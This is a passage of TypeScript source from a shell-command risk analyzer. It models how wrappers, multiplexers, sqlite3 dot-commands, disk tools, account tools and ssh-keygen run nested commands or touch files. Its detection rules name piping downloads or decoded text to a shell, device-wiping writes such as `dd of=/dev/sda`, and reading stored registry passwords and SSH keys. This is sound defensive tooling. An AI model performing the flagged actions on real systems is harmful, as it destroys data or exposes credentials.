  goenv: { subs: ['exec'] },
  jenv: { subs: ['exec'] },
  volta: { subs: ['run'], spec: { long: ['node', 'npm', 'pnpm', 'yarn', 'env'] } },
  fnm: { subs: ['exec'], spec: { long: ['using'] } },
  devbox: { subs: ['run'], spec: { short: 'ce', long: ['config', 'env', 'env-file', 'environment'] } },
  pixi: { subs: ['run', 'exec'], spec: { short: 'esw', long: ['environment', 'manifest-path', 'spec', 'with'] } },
  nix: { subs: ['develop', 'shell'], after: ['-c', '--command'] },
};

function runnerHandler(a: ShellAnalyzer, inv: Invocation): void {
  const r = RUNNERS[inv.program] ?? RUNNERS[versionless(inv.program)];
  const g = parseArgs(inv.args, { ...(r?.global ?? {}), stopAtOperand: true });
  const words = g.rest.map((x) => x.text);
  const sub = r?.subs.find((s) => s.split(' ').every((w, i) => words[i] === w));
  if (!r || !sub) {
    if (Object.hasOwn(CLI_SUBCOMMAND_DEPTH, inv.program)) return cliHandler(a, inv);
    return generic(a, inv);
  }
  const afterSub = g.rest.slice(sub.split(' ').length);
  const label = `${inv.program} ${sub}`;
  if (r.after) {
    // `nix develop --command CMD…`, `mise exec TOOL… -- CMD…`: only what follows the marker runs.
    const at = afterSub.findIndex((x) => r.after!.includes(x.text));
    const p = parseArgs(at < 0 ? afterSub : afterSub.slice(0, at), r.spec ?? {});
    emit(a, inv, p, [...sub.split(' ')]);
    for (const s of r.shell ?? []) for (const v of allValues(p, s)) runText(a, inv, v, `${label} ${s}`);
    if (at >= 0) wrap(a, inv, afterSub.slice(at + 1), label);
    return;
  }
  const p = parseArgs(afterSub, { ...(r.spec ?? {}), stopAtOperand: true });
  let cmd = p.rest.slice(r.skip ?? 0);
  // `hatch run ENV:CMD …` names the environment in the first word.
  if (inv.program === 'hatch' && cmd[0] && /^[\w.-]+:./.test(cmd[0].text)) cmd = [{ ...cmd[0], text: cmd[0].text.slice(cmd[0].text.indexOf(':') + 1) }, ...cmd.slice(1)];
  emit(a, inv, p, [...sub.split(' '), ...(cmd[0] && !cmd[0].dynamic ? [cmd[0].text] : [])]);
  for (const envFile of allValues(p, '--env-file')) a.path(envFile, 'read', `${label} --env-file`, inv.st);
  for (const s of r.shell ?? []) for (const v of allValues(p, s)) runText(a, inv, v, `${label} ${s}`);
  wrapMaybeAfterOption(a, inv, afterSub, p, cmd, label, r.spec);
}
on(Object.keys(RUNNERS), runnerHandler);

/**
 * Wrap `cmd`; when the word just before it is an option this table does not know, that option may take
 * it as its value, so the command may also start one word later: both readings are analysed.
 */
function wrapMaybeAfterOption(a: ShellAnalyzer, inv: Invocation, args: Field[], p: ParsedArgs, cmd: Field[], label: string, spec: OptSpec = {}): void {
  wrap(a, inv, cmd, label);
  const at = cmd[0] ? args.indexOf(cmd[0]) : -1;
  const prev = at > 0 ? args[at - 1]!.text : '';
  if (!prev.startsWith('-') || prev === '--' || prev.includes('=') || /^-\d+$/.test(prev)) return;
  const known = new Set([...(spec.flags ?? []), ...(spec.groups ?? []).flat()]);
  if (known.has(prev) || !p.flags.includes(prev)) return;
  wrap(a, inv, cmd.slice(1), label);
}

/** moreutils and friends that run their arguments as a command after a few flags. */
on(['ifne', 'chronic', 'eatmydata', 'nocache', 'dbus-run-session', 'tini', 'dumb-init'], (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: inv.program === 'tini' ? 'ple' : '' });
  emit(a, inv, p);
  wrap(a, inv, p.rest, inv.program);
});

/** Run as another user: `gosu USER CMD…`, `su-exec USER CMD…`, `setuidgid USER CMD…`. */
on(['gosu', 'su-exec', 'setuidgid'], (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true });
  emit(a, inv, p);
  wrap(a, inv, p.rest.slice(1), inv.program);
});

/** Each argument is a shell command line: `pee 'a' 'b'`, `mispipe 'a' 'b'`, `hyperfine 'a'`, `concurrently 'a' 'b'`. */
on(['pee', 'mispipe', 'hyperfine', 'concurrently'], (a, inv) => {
  const spec: OptSpec = inv.program === 'hyperfine'
    ? { short: 'wrmMpcsSnNu', long: ['warmup', 'runs', 'min-runs', 'max-runs', 'prepare', 'conclude', 'cleanup', 'setup', 'parameter-scan', 'parameter-step-size', 'parameter-list', 'shell', 'style', 'sort', 'export-asciidoc', 'export-csv', 'export-json', 'export-markdown', 'export-orgmode', 'command-name', 'time-unit', 'input', 'output', 'reference'] }
    : inv.program === 'concurrently' ? { short: 'npcks', long: ['names', 'prefix', 'prefix-colors', 'kill-others-on-fail', 'max-processes', 'success', 'restart-tries', 'restart-after', 'timestamp-format', 'name-separator', 'handle-input', 'default-input-target', 'passthrough-arguments'] } : {};
  const p = parseArgs(inv.args, spec);
  emit(a, inv, p);
  const texts = [...p.operands, ...allValues(p, '-p', '--prepare', '-c', '--cleanup', '-s', '--setup', '--conclude', '--reference').filter(() => inv.program === 'hyperfine')];
  for (const t of texts) runText(a, inv, t, inv.program, { kind: 'none' });
});

/** `sg GROUP -c 'text'` and `sg GROUP 'text'`: the text runs with /bin/sh -c. */
on('sg', (a, inv) => {
  const args = inv.args[0]?.text === '-' ? inv.args.slice(1) : inv.args;
  emit(a, inv, parseArgs(inv.args, { stopAtOperand: true }));
  const rest = args.slice(1);
  const text = rest[0]?.text === '-c' ? rest.slice(1) : rest;
  if (text.length) runText(a, inv, { text: text.map((x) => x.text).join(' '), dynamic: text.some((x) => x.dynamic) }, 'sg -c');
});

/** `nix-shell --run 'text'` / `--command 'text'`: shell text run inside the environment. */
on(['nix-shell'], (a, inv) => {
  const p = parseArgs(inv.args, { short: 'pIAE', long: ['run', 'command', 'packages', 'attr', 'include', 'expr', 'arg', 'argstr', 'option', 'exclude', 'keep'] });
  emit(a, inv, p);
  for (const t of allValues(p, '--run', '--command')) runText(a, inv, t, 'nix-shell --run');
});

/** entr runs its command when files change; with -s the command is shell text. Stdin is the file list. */
on('entr', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true });
  emit(a, inv, p);
  const none: Stdin = { kind: 'none' };
  if (has(p, '-s') && p.rest[0]) runText(a, inv, p.rest[0], 'entr -s', none);
  else if (p.rest.length) wrap(a, { ...inv, stdin: none }, p.rest, 'entr');
});

/**
 * bubblewrap: options take zero to three arguments (`--bind SRC DEST`, `--setenv K V`); the command is the
 * first word that is not part of one. Its options never abbreviate.
 */
const BWRAP_ARGS: Record<string, number> = {
  '--bind': 2, '--bind-try': 2, '--dev-bind': 2, '--dev-bind-try': 2, '--ro-bind': 2, '--ro-bind-try': 2, '--setenv': 2,
  '--symlink': 2, '--chmod': 2, '--bind-data': 2, '--ro-bind-data': 2, '--file': 2, '--overlay': 3,
  '--args': 1, '--argv0': 1, '--uid': 1, '--gid': 1, '--hostname': 1, '--chdir': 1, '--unsetenv': 1, '--lock-file': 1,
  '--sync-fd': 1, '--remount-ro': 1, '--exec-label': 1, '--file-label': 1, '--proc': 1, '--dev': 1, '--tmpfs': 1,
  '--mqueue': 1, '--dir': 1, '--seccomp': 1, '--add-seccomp-fd': 1, '--block-fd': 1, '--userns-block-fd': 1,
  '--info-fd': 1, '--json-status-fd': 1, '--userns': 1, '--userns2': 1, '--pidns': 1, '--cap-add': 1, '--cap-drop': 1,
  '--perms': 1, '--size': 1, '--overlay-src': 1, '--tmp-overlay': 1, '--ro-overlay': 1,
};
on('bwrap', (a, inv) => {
  const env: Record<string, string> = { ...inv.env };
  const flags: string[] = [];
  let i = 0;
  for (; i < inv.args.length; i++) {
    const t = inv.args[i]!.text;
    if (t === '--') {
      i++;
      break;
    }
    if (!t.startsWith('--')) break;
    flags.push(t);
    const n = BWRAP_ARGS[t] ?? 0;
    if (t === '--setenv' && inv.args[i + 2]) env[inv.args[i + 1]!.text] = inv.args[i + 2]!.dynamic ? DYN : inv.args[i + 2]!.text;
    i += n;
  }
  const cmd = inv.args.slice(i);
  a.command({ program: inv.program, invokedAs: inv.invokedAs, args: inv.args.map((x) => x.text), subcommand: [], flags, operands: cmd.map((x) => x.text), via: inv.via, env: inv.env, depth: inv.depth });
  wrap(a, inv, cmd, 'bwrap', env);
});

/**
 * sqlite3's dot-commands reach the shell and the file system: `.shell`/`.system` run a command, `.output`
 * and `.once` write a file (or pipe to a command), `.read`/`.import` read one; the SQL functions
 * readfile()/writefile() do the same from SQL. Commands come as arguments after the database, from -cmd,
 * or on stdin.
 */
on(['sqlite3', 'sqlite'], (a, inv) => {
  const p = parseArgs(inv.args, { singleDashLong: true, long: ['cmd', 'init', 'separator', 'newline', 'nullvalue', 'mmap', 'vfs', 'lookaside', 'pagecache', 'heap', 'maxsize', 'A', 'escape'] });
  // Single-dash options with a value (`-cmd X`): singleDashLong keeps them as flags, so pair them here.
  const vals: Field[] = [];
  const ops: Field[] = [];
  for (let i = 0; i < inv.args.length; i++) {
    const t = inv.args[i]!.text.replace(/^--?/, '-');
    if (/^-(cmd|init|separator|newline|nullvalue|mmap|vfs|lookaside|pagecache|heap|maxsize|escape)$/.test(t)) {
      const v = inv.args[++i];
      if (v && t === '-cmd') vals.push(v);
      if (v && t === '-init') a.path(v, 'read', 'sqlite3 -init', inv.st);
    } else if (!t.startsWith('-') || t === '-') ops.push(inv.args[i]!);
  }
  emit(a, inv, { ...p, operands: ops });
  const [db, ...sql] = ops;
  if (db && db.text !== ':memory:' && db.text !== '') a.path(db, 'read', 'sqlite3 database', inv.st);
  const texts = [...vals, ...sql].map((x) => ({ text: x.text, dynamic: x.dynamic }));
  const src = classifyStdin(inv.stdin);
  if (src.kind === 'text') texts.push({ text: src.text, dynamic: src.dynamic });
  else if (src.kind === 'risk' && (src.risk === 'download-to-shell' || src.risk === 'decoded-to-shell')) a.risk(src.risk, `sqlite3 reads commands from ${src.detail}`);
  for (const t of texts) sqliteScript(a, inv, t.text);
});

function sqliteScript(a: ShellAnalyzer, inv: Invocation, text: string): void {
  const none: Stdin = { kind: 'none' };
  for (const line of text.split('\n')) {
    const m = /^\s*\.(\w+)\s*(.*)$/.exec(line);
    if (!m) continue;
    const [, cmd, rest] = m as unknown as [string, string, string];
    const arg = rest.trim().replace(/^(['"])(.*)\1$/, '$2');
    if (cmd === 'shell' || cmd === 'system') {
      a.risk('interpreter-inline-exec', `sqlite3 .${cmd} ${truncate(arg)}`);
      runText(a, inv, arg, `sqlite3 .${cmd}`, none);
    } else if (['output', 'once', 'read', 'import', 'backup', 'save', 'restore', 'open', 'load', 'excel'].includes(cmd)) {
      const file = arg.split(/\s+/).filter((w) => !w.startsWith('-'))[cmd === 'backup' || cmd === 'restore' ? arg.split(/\s+/).filter((w) => !w.startsWith('-')).length - 1 : 0];
      if (arg.startsWith('|')) {
        a.risk('interpreter-inline-exec', `sqlite3 .${cmd} pipes through ${truncate(arg.slice(1))}`);
        runText(a, inv, arg.slice(1), `sqlite3 .${cmd} |`, none);
      } else if (file) {
        const access = cmd === 'load' ? 'exec' : ['output', 'once', 'backup', 'save'].includes(cmd) ? 'write' : 'read';
        a.path(f(file), access, `sqlite3 .${cmd}`, inv.st);
      }
    }
  }
  for (const m of text.matchAll(/\b(readfile|writefile)\s*\(\s*'((?:''|[^'])*)'/gi)) a.path(f(m[2]!.replace(/''/g, "'")), m[1]!.toLowerCase() === 'readfile' ? 'read' : 'write', `sqlite3 ${m[1]}()`, inv.st);
  if (/\bedit\s*\(/i.test(text)) a.risk('interpreter-inline-exec', 'sqlite3 edit() runs an editor');
}

/** Docker credential helpers (`docker-credential-desktop get`): `get` prints a stored registry password. */
on('docker-credential-', (a, inv) => {
  const p = parseArgs(inv.args);
  emit(a, inv, p, p.operands[0] && !p.operands[0].dynamic ? [p.operands[0].text] : []);
});

// ── disks and accounts ──────────────────────────────────────────────────
// Modelled as the writes they make (a device, /etc/passwd…), so the path rules for devices and system
// directories decide, as they do for `dd of=/dev/sda`.

/** `ddrescue [opts] INFILE OUTFILE [MAPFILE]`: the output and the map file are written. */
on('ddrescue', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'abcdeEFHiKlmorsTxZ', long: ['min-read-rate', 'sector-size', 'cluster-size', 'max-errors', 'max-error-rate', 'fill-mode', 'test-mode', 'input-position', 'skip-size', 'log-rates', 'log-reads', 'log-events', 'domain-mapfile', 'output-position', 'retry-passes', 'size', 'timeout', 'extend-outfile', 'max-read-rate', 'pause-on-error', 'pause-on-pass', 'delay-slow', 'mapfile-interval', 'cpass'] });
  emit(a, inv, p);
  const [input, ...outs] = p.operands;
  if (input) a.path(input, 'read', 'ddrescue input', inv.st);
  for (const o of outs) a.path(o, 'write', 'ddrescue output', inv.st);
});

/** badblocks -w (destructive) and -n (read-write) write the device; -o names an output file. */
on('badblocks', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'bcdeiopt' });
  emit(a, inv, p);
  for (const o of allValues(p, '-o')) a.path(o, 'write', 'badblocks -o', inv.st);
  for (const i of allValues(p, '-i')) a.path(i, 'read', 'badblocks -i', inv.st);
  const dev = p.operands[0];
  if (dev) a.path(dev, has(p, '-w', '-n') ? 'write' : 'read', `badblocks${has(p, '-w') ? ' -w' : has(p, '-n') ? ' -n' : ''}`, inv.st);
});

/** cryptsetup actions that rewrite a device's header or contents (luksFormat, erase, reencrypt…). */
const CRYPTSETUP_WRITES = new Set(['luksformat', 'format', 'erase', 'lukserase', 'reencrypt', 'luksaddkey', 'luksremovekey', 'lukschangekey', 'lukskillslot', 'luksconvertkey', 'convert', 'repair', 'luksheaderrestore', 'config', 'token', 'luksuuid']);
on('cryptsetup', (a, inv) => {
  const p = parseArgs(inv.args, {
    short: 'chsdSiMTtlobpI',
    long: ['type', 'cipher', 'hash', 'key-size', 'key-file', 'key-slot', 'header', 'header-backup-file', 'iter-time', 'pbkdf', 'label', 'subsystem', 'uuid', 'offset', 'size', 'skip', 'sector-size', 'keyfile-size', 'keyfile-offset', 'new-keyfile', 'master-key-file', 'volume-key-file', 'integrity', 'luks2-metadata-size', 'luks2-keyslots-size', 'tries', 'timeout', 'token-id', 'priority', 'resilience', 'hotzone-size', 'key-description', 'pbkdf-memory', 'pbkdf-parallel', 'pbkdf-force-iterations', 'align-payload', 'device-size', 'reduce-device-size', 'json-file', 'new-key-slot'],
  });
  const [action, ...ops] = p.operands;
  emit(a, inv, p, action ? [action.text] : []);
  for (const k of allValues(p, '-d', '--key-file', '--new-keyfile', '--master-key-file', '--volume-key-file', '--json-file')) if (k.text !== '-') a.path(k, 'read', 'cryptsetup key file', inv.st);
  const act = action?.text.toLowerCase() ?? '';
  for (const h of allValues(p, '--header-backup-file')) a.path(h, act === 'luksheaderbackup' ? 'write' : 'read', 'cryptsetup header backup', inv.st);
  if ((CRYPTSETUP_WRITES.has(act) || action?.dynamic) && ops[0]) a.path(ops[0], 'write', `cryptsetup ${action!.text}`, inv.st);
});

/** The account databases each tool rewrites (with `-R/--root DIR` or `-P/--prefix DIR` under DIR). */
const ACCOUNT_FILES: Record<string, string[]> = {
  useradd: ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/gshadow'],
  adduser: ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/gshadow'],
  newusers: ['/etc/passwd', '/etc/shadow', '/etc/group'],
  usermod: ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/gshadow'],
  userdel: ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/gshadow'],
  deluser: ['/etc/passwd', '/etc/shadow', '/etc/group', '/etc/gshadow'],
  groupadd: ['/etc/group', '/etc/gshadow'],
  addgroup: ['/etc/group', '/etc/gshadow'],
  groupmod: ['/etc/group', '/etc/gshadow'],
  groupdel: ['/etc/group', '/etc/gshadow'],
  delgroup: ['/etc/group', '/etc/gshadow'],
  gpasswd: ['/etc/group', '/etc/gshadow'],
  chpasswd: ['/etc/shadow'],
  chgpasswd: ['/etc/gshadow'],
  passwd: ['/etc/shadow'],
  chage: ['/etc/shadow'],
  chsh: ['/etc/passwd'],
  chfn: ['/etc/passwd'],
  vipw: ['/etc/passwd', '/etc/shadow'],
  vigr: ['/etc/group', '/etc/gshadow'],
  pwconv: ['/etc/passwd', '/etc/shadow'],
  grpconv: ['/etc/group', '/etc/gshadow'],
};
on(Object.keys(ACCOUNT_FILES), (a, inv) => {
  const p = parseArgs(inv.args, { short: 'bcdeEfgGkKmpPRsuUZ', long: ['base-dir', 'comment', 'home-dir', 'expiredate', 'inactive', 'gid', 'groups', 'skel', 'key', 'password', 'root', 'prefix', 'shell', 'uid', 'selinux-user', 'lastday', 'maxdays', 'mindays', 'warndays', 'crypt-method', 'sha-rounds', 'home', 'ingroup', 'firstuid', 'lastuid', 'conf', 'add', 'delete', 'members', 'administrators'] });
  emit(a, inv, p);
  // Queries change nothing: `useradd -D` (defaults), `passwd -S`, `chage -l`, `chsh -l`.
  if ((inv.program === 'useradd' && has(p, '-D') && p.operands.length === 0 && p.values.size === 0) || (inv.program === 'passwd' && has(p, '-S', '--status')) || (inv.program === 'chage' && has(p, '-l', '--list')) || (inv.program === 'chsh' && has(p, '-l', '--list-shells'))) return;
  const root = value(p, '-R', '--root', '-P', '--prefix');
  const base = root ? resolveLexical(a.cwdList(inv.st)[0]!, root.text).replace(/\/+$/, '') : '';
  for (const file of ACCOUNT_FILES[inv.program] ?? []) a.path({ text: base + file, dynamic: !!root?.dynamic }, 'write', inv.program, inv.st);
});

/**
 * update-alternatives (Debian) / alternatives (Red Hat): `--install LINK NAME PATH PRIO` (and `--slave LINK
 * NAME PATH`) point LINK at PATH through `<altdir>/NAME`; --set/--remove/--auto/--config change `<altdir>/NAME`.
 */
on(['update-alternatives', 'alternatives'], (a, inv) => {
  const args = inv.args;
  const flags: string[] = [];
  let altdir = '/etc/alternatives';
  let admindir = '/var/lib/dpkg/alternatives';
  const write = (path: string, dynamic = false): void => a.path({ text: path, dynamic }, 'write', inv.program, inv.st);
  const writeName = (name: Field | undefined): void => {
    if (!name) return;
    write(`${altdir}/${name.text}`, name.dynamic);
    write(`${admindir}/${name.text}`, name.dynamic);
  };
  const counts: Record<string, number> = { '--install': 4, '--slave': 3, '--set': 2, '--remove': 2, '--remove-all': 1, '--auto': 1, '--config': 1, '--display': 1, '--query': 1, '--list': 1, '--altdir': 1, '--admindir': 1, '--log': 1, '--root': 1 };
  // Directories first: they apply wherever they appear.
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    if (t === '--altdir' && args[i + 1]) altdir = resolveLexical(a.cwdList(inv.st)[0]!, args[i + 1]!.text);
    if (t === '--admindir' && args[i + 1]) admindir = resolveLexical(a.cwdList(inv.st)[0]!, args[i + 1]!.text);
  }
  for (let i = 0; i < args.length; i++) {
    const t = args[i]!.text;
    if (!t.startsWith('--')) continue;
    flags.push(t);
    const at = args.slice(i + 1, i + 1 + (counts[t] ?? 0));
    if (t === '--install' || t === '--slave') {
      if (at[0]) a.path(at[0], 'write', `${inv.program} ${t} link`, inv.st);
      writeName(at[1]);
      if (at[2]) a.path(at[2], 'read', `${inv.program} ${t} target`, inv.st);
    } else if (['--set', '--remove', '--remove-all', '--auto', '--config'].includes(t)) writeName(at[0]);
    else if (t === '--log' && at[0]) a.path(at[0], 'write', `${inv.program} --log`, inv.st);
    i += counts[t] ?? 0;
  }
  a.command({ program: inv.program, invokedAs: inv.invokedAs, args: args.map((x) => x.text), subcommand: [], flags, operands: [], via: inv.via, env: inv.env, depth: inv.depth });
});

// ── terminal multiplexers ───────────────────────────────────────────────

on('tmux', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'LSfc' });
  emit(a, inv, p, p.rest[0] ? [p.rest[0].text] : []);
  if (value(p, '-c')) return runText(a, inv, value(p, '-c')!, 'tmux -c');
  const [sub, ...rest] = p.rest;
  if (!sub) return;
  const sp = parseArgs(rest, { short: 'tsnxyFcePlvhe', stopAtOperand: true });
  const cmd = sp.rest;
  if (!cmd.length) return;
  if (['new-session', 'new', 'new-window', 'neww', 'split-window', 'splitw', 'respawn-pane', 'respawnp', 'respawn-window', 'respawnw', 'run-shell', 'run', 'display-popup', 'popup'].includes(sub.text)) {
    runText(a, inv, { text: cmd.map((x) => x.text).join(' '), dynamic: cmd.some((x) => x.dynamic) }, `tmux ${sub.text}`, { kind: 'none' });
  } else if (sub.text === 'send-keys' || sub.text === 'send') {
    // Keys typed into a shell: literal words, with Enter/C-m as newlines.
    const text = cmd.map((x) => (/^(Enter|C-m|KPEnter)$/.test(x.text) ? '\n' : x.text)).join(' ').replace(/ \n /g, '\n');
    runText(a, inv, { text, dynamic: cmd.some((x) => x.dynamic) }, 'tmux send-keys', { kind: 'none' });
  }
});

on('screen', (a, inv) => {
  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'cSXpTesrlaAhi' });
  emit(a, inv, p);
  const x = value(p, '-X');
  if (x?.text === 'stuff' || p.rest[0]?.text === 'stuff') {
    const text = (x?.text === 'stuff' ? p.rest[0] : p.rest[1])?.text.replace(/\^M|\\n|\\r/g, '\n');
    if (text) runText(a, inv, text, 'screen stuff', { kind: 'none' });
    return;
  }
  if (!x) wrap(a, inv, p.rest, 'screen');
});

// ── keys ────────────────────────────────────────────────────────────────

on('ssh-keygen', (a, inv) => {
  const p = parseArgs(inv.args, { short: 'abCDEfFIJKmMNnOPrRstVwYZz' });
  emit(a, inv, p);
  const file = value(p, '-f');
  const key = file ?? f(`${a.env.home}/.ssh/id_${value(p, '-t')?.text ?? 'ed25519'}`);
  if (has(p, '-y', '-l', '-e', '-B')) a.path(key, 'read', 'ssh-keygen reads the key', inv.st);
  else if (has(p, '-p', '-c')) {
    a.path(key, 'read', 'ssh-keygen rewrites the key', inv.st);
    a.path(key, 'write', 'ssh-keygen rewrites the key', inv.st);
  } else if (has(p, '-R', '-H')) a.path(file ?? f(`${a.env.home}/.ssh/known_hosts`), 'write', 'ssh-keygen edits known_hosts', inv.st);
  else if (!has(p, '-F', '-Y', '-Q', '-D', '-k', '-L')) {
    a.path(key, 'write', 'ssh-keygen writes a key', inv.st);
    a.path({ ...key, text: `${key.text}.pub` }, 'write', 'ssh-keygen writes a key', inv.st);
  }
});

// ── text utilities ──────────────────────────────────────────────────────

export function unescapeC(s: string): string {
  return s.replace(/\\(x[0-9a-fA-F]{1,2}|u[0-9a-fA-F]{4}|[0-7]{1,3}|[abefnrtv\\'"?])/g, (_m, e: string) => {
    if (e[0] === 'x' || e[0] === 'u') return String.fromCharCode(parseInt(e.slice(1), 16));
    if (/^[0-7]/.test(e)) return String.fromCharCode(parseInt(e, 8) & 0xff);
    const map: Record<string, string> = { a: '\x07', b: '\b', e: '\x1b', f: '\f', n: '\n', r: '\r', t: '\t', v: '\v', '\\': '\\', "'": "'", '"': '"', '?': '?' };
    return map[e] ?? e;
  });
}

function formatPrintf(fmt: string, args: string[]): string | null {
  let out = '';
  let ai = 0;
  let guard = 0;
  do {
    let ok = true;
    const text = fmt.replace(/%(%|[-+ #0]*\d*(?:\.\d+)?[sbdiuxXoc])|\\(x[0-9a-fA-F]{1,2}|[0-7]{1,3}|[abefnrtv\\'"?])/g, (m, spec?: string) => {
      if (m.startsWith('\\')) return unescapeC(m);
      if (spec === '%') return '%';
      const conv = spec!.slice(-1);
      const arg = args[ai++] ?? '';
      if (conv === 's') return arg;
      if (conv === 'b') return unescapeC(arg);
      if (conv === 'c') return arg.charAt(0);
      const n = Number(arg || 0);
      if (!Number.isFinite(n)) {
        ok = false;
        return '';
      }
      if (conv === 'x') return Math.trunc(n).toString(16);
      if (conv === 'X') return Math.trunc(n).toString(16).toUpperCase();
      if (conv === 'o') return Math.trunc(n).toString(8);
      return String(Math.trunc(n));
    });
    if (!ok || /%[^%sbdiuxXoc]/.test(fmt.replace(/%%/g, ''))) return null;
    out += text;
  } while (ai < args.length && /%[sbdiuxXoc]/.test(fmt) && ++guard < 64);
  return out;
}
